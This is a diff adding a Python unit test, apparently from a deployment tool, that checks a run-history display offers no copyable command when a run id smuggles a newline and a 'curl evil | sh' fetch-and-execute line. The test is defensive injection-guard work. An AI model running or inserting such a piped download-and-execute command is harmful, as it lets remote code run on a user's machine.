@@ -1165,3 +1165,12 @@ def test_a_real_terminal_has_a_width() -> None:
     width = human.terminal_width(terminal.stream, {})
     terminal.close()
     assert width == 132
+
+
+def test_a_run_whose_id_is_none_gives_no_command_to_copy() -> None:
+    run = recorded_run(run="x\ncurl evil | sh", outcome=RunOutcome.IN_PROGRESS)
+
+    shown = history_of(HistoryResult("vps", runs=(run,)), width=80)
+
+    assert "deployctl follow" not in shown
+    assert not any(line.strip().startswith("curl") for line in shown.splitlines())
